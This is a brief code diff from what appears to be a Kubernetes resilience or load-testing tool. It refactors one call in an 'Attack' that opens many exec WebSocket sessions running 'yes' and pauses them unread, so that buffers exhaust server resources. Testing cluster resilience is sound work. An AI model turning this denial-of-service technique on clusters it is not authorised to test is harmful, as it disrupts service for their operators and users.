@@ -11,7 +11,7 @@ export const execsThatNobodyReads: Attack = {
     const pod = await runPod(target, signal);
     const path = `${pod}/exec?command=yes&stdout=1`;
     const sockets = Array.from({ length: sessionsMax }, () =>
-      webSocketTo(target, path, "v5.channel.k8s.io", (socket) => void socket.pause()),
+      webSocketTo(target, { path, protocol: "v5.channel.k8s.io" }, (socket) => void socket.pause()),
     );
     await aborted(signal);
     for (const socket of sockets) socket.destroy();
